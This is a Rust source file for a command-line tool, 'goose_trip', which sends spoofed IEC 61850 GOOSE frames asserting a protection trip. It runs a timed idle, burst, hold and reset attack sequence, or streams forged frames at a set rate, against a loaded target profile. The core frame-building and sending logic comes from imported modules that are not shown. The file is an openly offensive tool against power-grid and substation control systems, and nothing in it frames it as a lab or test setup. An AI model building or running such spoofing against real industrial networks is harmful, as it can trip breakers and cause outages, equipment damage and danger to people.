//! Spoofed GOOSE trip.
//!
//! With `-t` and no rate, runs the IDLE -> BURST -> HOLD -> RESET sequence.
//! Otherwise sends a single frame, or streams at `-r` fps with sqNum counting up.
//!
//! Usage:
//!   sudo goose_trip -i eth0 -t --idle 5 --hold 10
//!   sudo goose_trip -i eth0 -r 10 -t
//!   goose_trip --inspect -c target.json

use std::path::PathBuf;

use anyhow::{Context, Result};
use clap::Parser;
use goose_tools::attack_sequence::{run_attack_sequence, SequenceTimings};
use goose_tools::capture::find_interface;
use goose_tools::decode_goose::inspect_all_data;
use goose_tools::generator::{
    frame_period, run_rate_loop, seconds, CounterPolicy, GooseCounters, RateLoopOptions,
};
use goose_tools::target::{FrameBuilder, TargetProfile};
use goose_tools::transmit::{check_frame_fits, interface_mac, interface_mtu, PnetSink};
use tokio_util::sync::CancellationToken;
use tracing::info;
use tracing_subscriber::EnvFilter;

#[derive(Parser, Debug)]
#[command(name = "goose_trip", version)]
#[command(about = "Send spoofed GOOSE frames asserting a trip")]
struct Args {
    /// Interface to send on
    #[arg(short, long, required_unless_present = "inspect")]
    interface: Option<String>,

    /// Send untagged (no VLAN)
    #[arg(short, long)]
    untagged: bool,

    /// Stream fps (0 = single frame)
    #[arg(short, long, default_value_t = 0.0)]
    rate: f64,

    /// Assert trip; runs the full sequence unless a rate is set
    #[arg(short, long)]
    trip: bool,

    /// Idle seconds before the trip
    #[arg(long, default_value_t = 5.0)]
    idle: f64,

    /// Trip frames sent back-to-back (at least 3)
    #[arg(long, default_value_t = 8)]
    burst_frames: usize,

    /// Hold seconds at 1 fps
    #[arg(long, default_value_t = 10.0)]
    hold: f64,

    /// Target profile (JSON); the reference target when omitted
    #[arg(short, long)]
    config: Option<PathBuf>,

    /// List the allData entries of the profile and exit
    #[arg(long)]
    inspect: bool,
}

fn inspect(profile: &TargetProfile) -> Result<()> {
    let entries = inspect_all_data(&profile.all_data).context("allData is not valid BER")?;
    println!("{:>6}  {:>4}  value", "offset", "tag");
    for entry in entries {
        let marker = if profile.trip_offsets.contains(&entry.value_offset) {
            "  <- trip"
        } else {
            ""
        };
        println!(
            "{:>6}  0x{:02x}  {:?}{}",
            entry.value_offset, entry.tag, entry.value, marker
        );
    }
    Ok(())
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new("info")),
        )
        .with_writer(std::io::stderr)
        .init();

    let args = Args::parse();

    let profile = match &args.config {
        Some(path) => TargetProfile::load(path)
            .with_context(|| format!("failed to load target profile {}", path.display()))?,
        None => TargetProfile::default(),
    };
    if args.inspect {
        return inspect(&profile);
    }

    frame_period(args.rate).context("--rate")?;
    let timings = SequenceTimings {
        idle: seconds(args.idle).context("--idle")?,
        burst_frames: args.burst_frames,
        hold: seconds(args.hold).context("--hold")?,
        ..Default::default()
    };
    timings.validate()?;

    let interface = args
        .interface
        .as_deref()
        .context("--interface is required")?;
    let iface = find_interface(interface)?;
    let mac = interface_mac(&iface).unwrap_or_default();
    let builder = FrameBuilder::new(profile, mac, args.untagged);

    let mtu = interface_mtu(interface);
    check_frame_fits(&builder, mtu).with_context(|| format!("{} (MTU {})", interface, mtu))?;
    let mut sink = PnetSink::open(interface)?;

    let cancel = CancellationToken::new();
    let on_signal = cancel.clone();
    tokio::spawn(async move {
        if tokio::signal::ctrl_c().await.is_ok() {
            on_signal.cancel();
        }
    });

    if args.trip && args.rate <= 0.0 {
        let report = run_attack_sequence(&builder, &mut sink, &timings, &cancel)
            .await
            .context("trip sequence aborted")?;
        if !report.completed {
            info!(phase = %report.final_state.phase, "trip sequence interrupted");
        }
        return Ok(());
    }

    let options = RateLoopOptions {
        rate: args.rate,
        trip: args.trip,
        start: GooseCounters::new(1, 1),
        policy: CounterPolicy {
            inc_sq: true,
            ..Default::default()
        },
        ..Default::default()
    };
    if args.rate > 0.0 {
        info!(rate = args.rate, interface, "streaming");
    }
    let summary = run_rate_loop(&builder, &mut sink, &options, &cancel)
        .await
        .context("transmission stopped")?;
    info!(frames = summary.frames_sent, "stopped");
    Ok(())
}
